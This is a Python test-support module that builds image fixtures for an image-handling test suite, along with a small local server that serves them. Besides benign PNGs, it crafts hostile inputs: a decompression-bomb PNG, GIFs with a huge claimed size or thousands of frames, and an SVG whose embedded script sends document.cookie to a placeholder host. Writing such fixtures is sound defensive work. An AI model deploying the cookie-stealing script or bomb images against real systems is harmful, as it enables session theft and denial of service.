"""Pictures made on the spot for the image tests: small honest ones, and the
hostile ones of issue 14 (a huge PNG that is small on the wire, a GIF of
many frames, an SVG with a script), plus a server that hands them out."""

from __future__ import annotations

import io
import struct
import time
import zlib
from http.server import BaseHTTPRequestHandler

from PIL import Image

from tests.support.feedserver import LocalServer


def png(width: int = 40, height: int = 20, colour: tuple[int, int, int] = (200, 60, 40)) -> bytes:
    """A PNG of one colour with a white band across its lower half."""
    picture = Image.new("RGB", (width, height), colour)
    picture.paste((255, 255, 255), (0, height // 2, width, height))
    out = io.BytesIO()
    picture.save(out, "PNG")
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def huge_png(side: int = 50_000) -> bytes:
    """A PNG header claiming ``side`` x ``side`` pixels, with a few rows of
    compressed zeros behind it: tens of KB that would decode to gigabytes."""
    squeeze = zlib.compressobj(9)
    row = b"\0" * (side * 3 + 1)
    idat = b"".join(squeeze.compress(row) for _ in range(100)) + squeeze.flush()
    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


def many_frames_gif(frames: int = 3000, side: int = 64) -> bytes:
    """An animated GIF of ``frames`` frames (only the first may ever be decoded)."""
    # The first frame red, every later one a different green.
    shots = [Image.new("RGB", (side, side), (230, 0, 0) if i == 0 else (0, 40 + i % 200, 0)) for i in range(frames)]
    out = io.BytesIO()
    shots[0].save(out, "GIF", save_all=True, append_images=shots[1:], duration=10, loop=0)
    return out.getvalue()


def huge_gif(side: int = 60_000) -> bytes:
    """A GIF whose screen claims ``side`` x ``side`` pixels, with one tiny frame."""
    small = io.BytesIO()
    Image.new("P", (2, 2), 1).save(small, "GIF")
    data = bytearray(small.getvalue())
    data[6:10] = struct.pack("<HH", side, side)  # the logical screen's width and height
    return bytes(data)


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('http://example.invalid/?'+document.cookie)</script><rect width='10' height='10'/></svg>"
)


class PictureServer(LocalServer):
    """Serves ``routes`` (path -> (status, body, headers)) on 127.0.0.1 and
    counts the requests for each path."""

    def __init__(
        self, routes: dict[str, tuple[int, bytes, dict[str, str]]], delays: dict[str, float] | None = None
    ) -> None:
        super().__init__()
        self.routes = routes
        self.delays = delays or {}  # path -> seconds to wait before answering
        self.hits: dict[str, int] = {}

    def do_get(self, request: BaseHTTPRequestHandler, path: str) -> None:
        self.hits[path] = self.hits.get(path, 0) + 1
        time.sleep(self.delays.get(path, 0))
        status, body, headers = self.routes.get(path, (404, b"not here", {"Content-Type": "text/plain"}))
        self.send(request, status, body, headers)
